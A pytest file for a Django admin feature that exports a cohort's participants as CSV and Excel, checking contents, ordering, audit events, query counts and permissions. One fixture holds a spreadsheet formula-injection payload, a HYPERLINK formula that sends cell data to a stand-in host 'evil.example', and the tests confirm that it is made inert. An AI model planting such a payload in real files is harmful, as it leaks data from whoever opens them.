"""Exports of a cohort's participants as CSV and Excel (issue #6): admin
actions on the cohort list for an advisor, the files read back with the
csv module and openpyxl and compared with the data."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from leerlab.exports import cohort_participants_export
from leerlab.models import CohortEvent, CohortEventAction
from municipalities.models import Municipality
from privacy.services import person_erase
from registrations.models import Registration, RegistrationStatus
from tests.factories import CohortFactory, RegistrationFactory, UserFactory

COHORTS = reverse("admin:leerlab_cohort_changelist")
HEADERS = [
    "Leer Lab",
    "Cohort",
    "Gemeente",
    "CBS-code",
    "Status",
    "Plaats op de wachtlijst",
    "Contactpersoon",
    "Functie",
    "E-mailadres",
    "Telefoon",
    "Titel van de case",
    "Beschrijving van de case",
    "Leervragen",
    "Bevestigd op",
]
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'
DOUBLE_FORMULA = "==1+1"


@pytest.fixture
def advisor(db):
    user = UserFactory(staff=True, username="adviseur-export", email="adviseur-export@servicepunt.example")
    user.groups.add(Group.objects.get(name="Servicepunt-adviseurs"))
    return user


@pytest.fixture
def advisor_client(client, advisor):
    client.force_login(advisor)
    return client


def _municipality(cbs_code: str) -> Municipality:
    return Municipality.objects.get(cbs_code=cbs_code)


@pytest.fixture
def participants(cohort):
    """A cohort as advisors meet it: Dutch and English contacts, accents,
    a formula in a case title, a waitlist, an anonymised registration, and
    registrations that must not be exported."""
    now = timezone.now()
    haarlem = RegistrationFactory(
        cohort=cohort,
        confirmed=True,
        municipality=_municipality("GM0392"),  # Haarlem
        contact_name="Zoë van Eëkelen",
        contact_email="zoe@haarlem.nl",
        contact_role="Beleidsadviseur warmte & energie",
        contact_phone="+31 23 511 5115",
        case_title="Wijkaanpak Schalkwijk – café-overleg",
        case_description="Eerste regel.\nTweede regel met é en ë.",
        learning_needs="Hoe betrekken we huurders?",
        confirmed_at=now - timedelta(days=3),
    )
    alkmaar = RegistrationFactory(
        cohort=cohort,
        confirmed=True,
        municipality=_municipality("GM0361"),  # Alkmaar
        contact_name="Mary O'Brien",
        contact_email="mary.obrien@alkmaar.nl",
        language="en",
        case_title=FORMULA,
        case_description=DOUBLE_FORMULA,
        learning_needs="",
        contact_role="",
        contact_phone="",
        confirmed_at=now - timedelta(days=2),
    )
    erased = RegistrationFactory(
        cohort=cohort,
        confirmed=True,
        municipality=_municipality("GM0363"),  # Amsterdam
        contact_name="Piet Verwijderd",
        contact_email="piet@amsterdam.nl",
        confirmed_at=now - timedelta(days=4),
    )
    person_erase(email="piet@amsterdam.nl", actor="test")
    # Waitlisted: Zaanstad confirmed first, so it is first in line even
    # though Bloemendaal comes first by name.
    zaanstad = RegistrationFactory(
        cohort=cohort,
        waitlisted=True,
        municipality=_municipality("GM0479"),  # Zaanstad
        contact_name="Inès Bakker",
        confirmed_at=now - timedelta(days=1, hours=2),
    )
    bloemendaal = RegistrationFactory(
        cohort=cohort,
        waitlisted=True,
        municipality=_municipality("GM0377"),  # Bloemendaal
        contact_name="Jan de Vries",
        confirmed_at=now - timedelta(days=1),
    )
    # Not exported: pending, withdrawn, and another cohort's participant.
    RegistrationFactory(cohort=cohort, municipality=_municipality("GM0358"))
    RegistrationFactory(
        cohort=cohort, municipality=_municipality("GM0362"), status=RegistrationStatus.WITHDRAWN
    )
    other = CohortFactory()
    RegistrationFactory(cohort=other, confirmed=True, municipality=_municipality("GM0392"))
    for registration in (haarlem, alkmaar, erased, zaanstad, bloemendaal):
        registration.refresh_from_db()
    return {
        "haarlem": haarlem,
        "alkmaar": alkmaar,
        "erased": erased,
        "zaanstad": zaanstad,
        "bloemendaal": bloemendaal,
        "other_cohort": other,
    }


def _local(moment):
    return timezone.localtime(moment).replace(tzinfo=None, second=0, microsecond=0)


def _expected_rows(cohort, p) -> list[list]:
    """The export as a person reads it: confirmed by municipality, then the
    waitlist in its order, personal data of the erased registration blank."""
    lab = cohort.lab.title

    def row(r: Registration, status: str, place, personal: bool):
        return [
            lab,
            cohort.number,
            r.municipality.name,
            r.municipality.cbs_code,
            status,
            place,
            r.contact_name if personal else "",
            r.contact_role if personal else "",
            r.contact_email if personal else "",
            r.contact_phone if personal else "",
            r.case_title if personal else "",
            r.case_description if personal else "",
            r.learning_needs if personal else "",
            _local(r.confirmed_at),
        ]

    confirmed, waitlisted = "bevestigd (heeft een plaats)", "op de wachtlijst"
    return [
        row(p["alkmaar"], confirmed, "", True),
        row(p["erased"], confirmed, "", False),
        row(p["haarlem"], confirmed, "", True),
        row(p["zaanstad"], waitlisted, 1, True),
        row(p["bloemendaal"], waitlisted, 2, True),
    ]


def _export(client, action, cohorts):
    return client.post(COHORTS, {"action": action, "_selected_action": [c.pk for c in cohorts]})


def _csv_rows(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _as_csv(value) -> str:
    if value == "":
        return ""
    if hasattr(value, "strftime"):
        return value.strftime("%Y-%m-%d %H:%M")
    text = str(value)
    return "'" + text if text.startswith(("=", "+", "-", "@")) else text


# --- CSV -----------------------------------------------------------------------------


def test_csv_export_of_one_cohort_matches_the_data(advisor_client, advisor, cohort, participants):
    response = _export(advisor_client, "export_participants_csv", [cohort])

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="leerlab-verhaal-warmtetransitie-cohort-1-deelnemers-{today}.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    rows = _csv_rows(response)
    assert rows[0] == HEADERS
    expected = [[_as_csv(v) for v in row] for row in _expected_rows(cohort, participants)]
    assert rows[1:] == expected
    # Accents and the line break survive; the phone number cannot run as a formula either.
    assert rows[3][2] == "Haarlem" and rows[3][6] == "Zoë van Eëkelen"
    assert rows[3][11] == "Eerste regel.\nTweede regel met é en ë."
    assert rows[3][9] == "'+31 23 511 5115"


def test_csv_formulae_are_inert(advisor_client, cohort, participants):
    rows = _csv_rows(_export(advisor_client, "export_participants_csv", [cohort]))

    alkmaar = next(row for row in rows if row[2] == "Alkmaar")
    assert alkmaar[10] == "'" + FORMULA
    assert alkmaar[11] == "'" + DOUBLE_FORMULA
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_export_is_recorded_per_cohort_without_personal_data(advisor_client, advisor, cohort, participants):
    other = participants["other_cohort"]

    response = _export(advisor_client, "export_participants_csv", [cohort, other])

    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="leerlab-deelnemers-{today}.csv"'
    assert len(_csv_rows(response)) == 1 + 5 + 1
    events = {e.cohort_id: e for e in CohortEvent.objects.filter(action=CohortEventAction.EXPORTED)}
    assert set(events) == {cohort.pk, other.pk}
    assert events[cohort.pk].details == {"format": "csv", "rows": 5}
    assert events[other.pk].details == {"format": "csv", "rows": 1}
    assert events[cohort.pk].actor == advisor.username


def test_other_labs_come_in_lab_order(advisor_client, cohort, participants):
    other = participants["other_cohort"]

    rows = _csv_rows(_export(advisor_client, "export_participants_csv", [other, cohort]))

    labs = [row[0] for row in rows[1:]]
    # The seeded lab (position 4 or lower) before the factory's lab (position >= 100).
    assert labs == [cohort.lab.title] * 5 + [other.lab.title]


# --- Excel ---------------------------------------------------------------------------


def test_xlsx_export_matches_the_data_and_formulae_are_text(advisor_client, cohort, participants):
    response = _export(advisor_client, "export_participants_xlsx", [cohort])

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="leerlab-verhaal-warmtetransitie-cohort-1-deelnemers-{today}.xlsx"'
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADERS

    def as_xlsx(value):
        if value == "":
            return None
        if isinstance(value, str) and value.startswith("="):
            return "'" + value
        return value

    expected = [[as_xlsx(v) for v in row] for row in _expected_rows(cohort, participants)]
    assert rows[1:] == expected
    # No cell is a formula; "+31..." stays as typed (typed text in Excel).
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    alkmaar = next(row for row in rows if row[2] == "Alkmaar")
    assert alkmaar[10] == "'" + FORMULA
    haarlem = next(row for row in rows if row[2] == "Haarlem")
    assert haarlem[9] == "+31 23 511 5115"
    event = CohortEvent.objects.get(cohort=cohort, action=CohortEventAction.EXPORTED)
    assert event.details == {"format": "xlsx", "rows": 5}


# --- Costs -----------------------------------------------------------------------------


def test_export_costs_a_fixed_number_of_queries(db, cohort):
    RegistrationFactory(cohort=cohort, confirmed=True)
    with CaptureQueriesContext(connection) as small:
        cohort_participants_export(cohort_ids=[cohort.pk], file_format="xlsx", actor="test")

    others = [CohortFactory() for _ in range(3)]
    for target in [cohort, *others]:
        for _ in range(4):
            RegistrationFactory(cohort=target, confirmed=True)
        RegistrationFactory(cohort=target, waitlisted=True)
    with CaptureQueriesContext(connection) as large:
        export = cohort_participants_export(
            cohort_ids=[cohort.pk, *(c.pk for c in others)], file_format="xlsx", actor="test"
        )

    assert export.rows == 1 + 4 * 5
    assert len(large.captured_queries) == len(small.captured_queries)


# --- From the cohort page ------------------------------------------------------------


def test_cohort_page_links_to_its_export(advisor_client, cohort, participants):
    page = advisor_client.get(reverse("admin:leerlab_cohort_change", args=[cohort.pk]))
    url = reverse("admin:leerlab_cohort_export", args=[cohort.pk, "csv"])
    assert url in page.content.decode()

    response = advisor_client.get(url)

    assert response.status_code == 200
    assert len(_csv_rows(response)) == 1 + 5
    assert (
        advisor_client.get(reverse("admin:leerlab_cohort_export", args=[cohort.pk, "pdf"])).status_code == 404
    )
    assert advisor_client.get(reverse("admin:leerlab_cohort_export", args=[999999, "csv"])).status_code == 404


# --- Who may -------------------------------------------------------------------------------


def test_staff_without_view_registration_cannot_export(client, cohort, participants):
    user = UserFactory(staff=True, username="alleen-cohorten")
    user.user_permissions.add(
        *Permission.objects.filter(
            content_type__app_label="leerlab", codename__in=["view_cohort", "change_cohort"]
        )
    )
    client.force_login(user)

    changelist = client.get(COHORTS)
    assert changelist.status_code == 200
    choices = {value for value, _label in changelist.context["action_form"].fields["action"].choices}
    assert "start_now" in choices
    assert "export_participants_csv" not in choices
    assert "export_participants_xlsx" not in choices

    response = _export(client, "export_participants_csv", [cohort])
    assert not response.get("Content-Disposition")
    assert client.get(reverse("admin:leerlab_cohort_export", args=[cohort.pk, "csv"])).status_code == 403
    assert not CohortEvent.objects.filter(action=CohortEventAction.EXPORTED).exists()


def test_non_staff_is_sent_to_the_login(client, cohort, participants):
    client.force_login(UserFactory(username="geen-staf"))

    response = client.get(reverse("admin:leerlab_cohort_export", args=[cohort.pk, "csv"]))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert not CohortEvent.objects.filter(action=CohortEventAction.EXPORTED).exists()


def test_advisor_sees_both_export_actions(advisor_client, cohort):
    response = advisor_client.get(COHORTS)

    choices = dict(response.context["action_form"].fields["action"].choices)
    assert choices["export_participants_csv"] == "Deelnemers exporteren (CSV)"
    assert choices["export_participants_xlsx"] == "Deelnemers exporteren (Excel)"
    assert not [str(m) for m in get_messages(response.wsgi_request)]
